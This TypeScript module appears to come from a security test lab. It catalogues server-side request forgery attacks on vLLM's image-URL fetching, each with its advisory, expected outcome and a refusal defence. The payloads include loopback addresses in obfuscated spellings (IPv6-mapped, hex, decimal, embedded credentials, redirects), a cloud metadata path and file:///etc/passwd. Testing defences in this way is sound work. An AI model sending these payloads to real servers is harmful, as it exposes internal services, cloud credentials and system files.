import { type Advisory, type Attack, type Expectation, fails, refuse, WORKS } from '../attack.ts';
import { aboutPicture, type Target } from '../lab/target.ts';
import { watchCanary, watchOthers } from '../sightings.ts';

const NEVER_FETCHES = refuse(400, 'this fleet never fetches URLs');
const SSRF: Advisory = { id: 'CVE-2025-6242, GHSA-3f6c-7fw2-ppm4', affected: '≥ 0.5.0, < 0.11.0' };
const NO_GUARD: Advisory = { id: 'vllm#57157, PR 57825', affected: 'open in 0.32.0' };

interface Address {
  readonly id: string;
  readonly sends: string;
  readonly advisories: readonly Advisory[];
  readonly vllm: Expectation;
  readonly simulator?: Expectation;
  url(target: Target): string;
}

const portOf = ({ canary }: Target) => canary.forbidden.split(':')[1];

/** Spellings of one address inside; 127.0.0.1 stands for 169.254.169.254, which vLLM treats no otherwise. */
const ADDRESSES: readonly Address[] = [
  {
    id: 'ssrf-loopback',
    sends: '`http://127.0.0.1/…`, in place of the metadata service',
    advisories: [SSRF, NO_GUARD],
    vllm: WORKS,
    url: ({ canary }) => `http://${canary.forbidden}/latest/meta-data/`,
  },
  {
    id: 'ssrf-mapped',
    sends: '`http://[::ffff:127.0.0.1]/…`, IPv4 as IPv6',
    advisories: [NO_GUARD],
    vllm: WORKS,
    url: (target) => `http://[::ffff:127.0.0.1]:${portOf(target)}/`,
  },
  {
    id: 'ssrf-hexadecimal',
    sends: '`http://0x7f.1/…`, the address in another spelling',
    advisories: [NO_GUARD],
    vllm: WORKS,
    url: (target) => `http://0x7f.1:${portOf(target)}/`,
  },
  {
    id: 'ssrf-decimal',
    sends: '`http://2130706433/…`, the address as one number',
    advisories: [NO_GUARD],
    vllm: fails('its client refuses such an address'),
    simulator: WORKS,
    url: (target) => `http://2130706433:${portOf(target)}/`,
  },
  {
    id: 'ssrf-credentials',
    sends: '`http://user@127.0.0.1/…`',
    advisories: [NO_GUARD],
    vllm: WORKS,
    url: ({ canary }) => `http://user@${canary.forbidden}/`,
  },
  {
    id: 'ssrf-redirect',
    sends: 'a URL whose server redirects to 127.0.0.1',
    advisories: [NO_GUARD],
    vllm: WORKS,
    url: ({ allowedOrigin }) => `${allowedOrigin}/redirects`,
  },
];

export const URL_ATTACKS: readonly Attack[] = [
  ...ADDRESSES.map(
    ({ id, sends, advisories, vllm, simulator = vllm, url }): Attack => ({
      ...{ id, group: 'urls', sends, advisories },
      bare: { simulator, vllm },
      defence: NEVER_FETCHES,
      run: (target) => watchCanary(target, () => target.chat(aboutPicture(url(target)))),
    }),
  ),
  {
    id: 'file-url',
    group: 'urls',
    sends: '`file:///etc/passwd`',
    bare: {
      simulator: fails('it needs `--allowed-local-media-path`'),
      vllm: fails('it needs `--allowed-local-media-path`; answered with a 500'),
    },
    defence: NEVER_FETCHES,
    async run(target) {
      const answer = await target.chat(aboutPicture('file:///etc/passwd'));
      return { answers: [answer], harm: answer.text.includes('root:') ? 'the file came back' : undefined };
    },
  },
  {
    id: 'second-load-hangs',
    group: 'urls',
    sends: 'a URL that is loaded once, and never answers the second time',
    bare: { simulator: WORKS, vllm: WORKS },
    defence: NEVER_FETCHES,
    run: (target) =>
      watchOthers(target, () =>
        target.chat(aboutPicture(`${target.allowedOrigin}/second-hangs-${target.kind}`)),
      ),
  },
  {
    id: 'second-load-redirects',
    group: 'urls',
    sends: 'a URL of an allowed host that redirects to 127.0.0.1 the second time it is loaded',
    advisories: [NO_GUARD],
    engine: 'locked',
    bare: { simulator: WORKS, vllm: WORKS },
    defence: NEVER_FETCHES,
    run: (target) =>
      watchCanary(target, () =>
        target.chat(aboutPicture(`${target.allowedOrigin}/second-redirects-${target.kind}`)),
      ),
  },
  {
    id: 'not-on-the-list',
    group: 'urls',
    sends: 'a host that is not among those that pictures may come from',
    engine: 'locked',
    gateway: 'fetching',
    bare: {
      simulator: fails('`--allowed-media-domains` holds'),
      vllm: fails('`--allowed-media-domains` holds'),
    },
    defence: refuse(400, 'could not be fetched: '),
    run: (target) =>
      watchCanary(target, async () => [
        await target.chat(aboutPicture(`http://${target.canary.forbidden}/`)),
        await target.chat(aboutPicture(`https://${target.canary.forbidden}/`)),
        await target.chat(aboutPicture('https://elsewhere.example/')),
      ]),
  },
];
